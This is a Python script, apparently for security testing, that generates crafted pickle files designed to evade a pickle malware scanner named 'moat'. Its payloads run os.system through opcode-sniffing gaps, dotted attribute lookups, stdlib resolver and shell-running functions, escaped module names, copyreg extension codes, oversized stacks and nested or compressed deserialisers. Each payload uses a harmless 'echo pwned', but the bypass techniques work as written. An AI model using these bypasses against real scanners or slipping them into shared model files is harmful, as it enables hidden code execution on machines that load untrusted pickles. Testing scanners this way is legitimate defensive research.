"""Raw pickle bypasses. Writes files only; never loads them."""
import struct, os
O = os.path.dirname(os.path.abspath(__file__)) + "/"
CMD = b"echo pwned"
def w(name, data):
    open(O + name, "wb").write(data)

def binunicode(s):
    b = s.encode(); return b"X" + struct.pack("<I", len(b)) + b
def short(s):
    b = s.encode(); return b"\x8c" + bytes([len(b)]) + b

# baseline (should be caught): protocol 0 os.system
base = b"cos\nsystem\n(S'echo pwned'\ntR."
w("p00_baseline.pkl", base)

# 1. sniffing: pickle whose first opcode is not in moat's looks_like_pickle set
w("p01_sniff_int.pkl", b"K\x010" + base)          # BININT1 1, POP, then payload
w("p01_sniff_proto1.pkl", b"\x80\x01" + base)      # PROTO 1
w("p01_sniff_frame.pkl", b"\x95" + struct.pack("<Q", len(base)) + base)  # FRAME first
w("p01_sniff_unicode.pkl", b"Vx\n0" + base)
w("p01_sniff_p4noproto.pkl", short("posix") + short("system") + b"\x93" + short("echo pwned") + b"\x85R.")

# 2. dotted attribute path through a module that imported os (proto 4 / STACK_GLOBAL)
w("p02_dotted_logging_os.pkl", b"\x80\x04" + short("logging") + short("os.system") + b"\x93" + short("echo pwned") + b"\x85R.")
w("p02_dotted_posixpath_os.pkl", b"\x80\x04cposixpath\nos.system\n" + short("echo pwned") + b"\x85R.")
w("p02_dotted_builtins_dict.pkl", b"\x80\x04cbuiltins\n__dict__.get\n" + short("exec") + b"\x85R" + short("print('pwned')") + b"\x85R.")

# 3. resolver functions: import an innocuous name, call its result
for mod, fn, arg in [("pkgutil", "resolve_name", "os:system"),
                     ("logging.config", "_resolve", "os.system"),
                     ("unittest.mock", "_importer", "os"),]:
    if fn == "_importer":
        continue
    w(f"p03_resolver_{mod}.{fn}.pkl", f"c{mod}\n{fn}\n(V{arg}\ntR(Vecho pwned\ntR.".encode())

# 4. stdlib functions that run shell commands, not on the deny list
w("p04_osx_support_read_output.pkl", b"c_osx_support\n_read_output\n(Vecho pwned >&2\ntR.")
w("p04_operator_underscore.pkl", b"\x80\x04c_operator\nmethodcaller\n(Vsystem\nVecho pwned\ntR(clogging\nos\ntR.")
w("p04_logging_dictconfig.pkl", b"\x80\x02clogging.config\ndictConfig\n(}(Vversion\nK\x01Vroot\n}Vhandlers\n}Vx\n}(V()\nVos.system\nVcommand\nVecho pwned\nusssstR.")

# 5. memo key with an underscore: int('1_0') works in CPython, moat stops (broken)
w("p05_memo_underscore.pkl", b"N" + b"p1_0\n" + b"0" + base)
# 6. resource limits: stack past 2^20 values then POP_MARK; long text line
w("p06_stack_limit.pkl", b"(" + b"N" * ((1 << 20) + 1) + b"1" + base)
w("p06_long_line.pkl", b"S'" + b"a" * (17 << 20) + b"'\n0" + base)
# 7. escaped names: S/V opcodes are escape-decoded by Python, not by moat
w("p07_escape_S.pkl", b"S'p\\x6fsix'\nS'system'\n\x93(S'echo pwned'\ntR.")
w("p07_escape_V.pkl", b"Vposi\\u0078\nVsystem\n\x93(Vecho pwned\ntR.")
# 8. extension code registered at load time by copyreg.add_extension
w("p08_ext_copyreg.pkl", b"\x80\x02ccopyreg\nadd_extension\n(Vos\nVsystem\nJ\xf0\x00\x00\x00tR0\x82\xf0(Vecho pwned\ntR.")
# 9. unlisted deserialisers
inner = base
w("p09_pickle__Unpickler.pkl", b"\x80\x04cpickle\n_Unpickler.load\n(cpickle\n_Unpickler\n(c_io\nBytesIO\n(C" + bytes([len(inner)]) + inner + b"tRtRtR.")
w("p09_numpy_npyio_impl.pkl", b"\x80\x04cnumpy.lib._npyio_impl\nload\n(c_io\nBytesIO\n(C" + bytes([len(inner)]) + inner + b"tR\x88tR.")
print("ok")

# variants that start with a sniffed opcode (N = None, then POP) so moat does simulate them
w("p07_escape_S_sniffed.pkl", b"N0S'p\\x6fsix'\nS'system'\n\x93(S'echo pwned'\ntR.")
w("p07_escape_V_sniffed.pkl", b"N0Vposi\\u0078\nVsystem\n\x93(Vecho pwned\ntR.")
w("p06_long_line_sniffed.pkl", b"N0S'" + b"a" * (17 << 20) + b"'\n0" + base)

# fixed variants (built with pickle.dumps of a __reduce__ stub: dumping runs nothing)
import pickle, logging.config
class DictCfg:
    def __reduce__(self):
        return (logging.config.dictConfig, ({"version": 1, "handlers": {"x": {"()": "os.system", "command": "echo pwned"}}},))
w("p04_logging_dictconfig.pkl", pickle.dumps(DictCfg(), protocol=2))
# numpy.lib._npyio_impl.load(BytesIO(inner), None, True): mmap_mode=None, allow_pickle=True
w("p09_numpy_npyio_impl.pkl", b"\x80\x04cnumpy.lib._npyio_impl\nload\n(c_io\nBytesIO\n(C" + bytes([len(inner)]) + inner + b"tRN\x88tR.")
# the sniffing gap inside a compressed stream (joblib.dump(compress=3) layout / gzip.open)
import gzip, zlib
w("p01_sniff_int_gzip.pkl.gz", gzip.compress(b"K\x010" + base))
w("p01_sniff_int_zlib.joblib", zlib.compress(b"K\x010" + base))
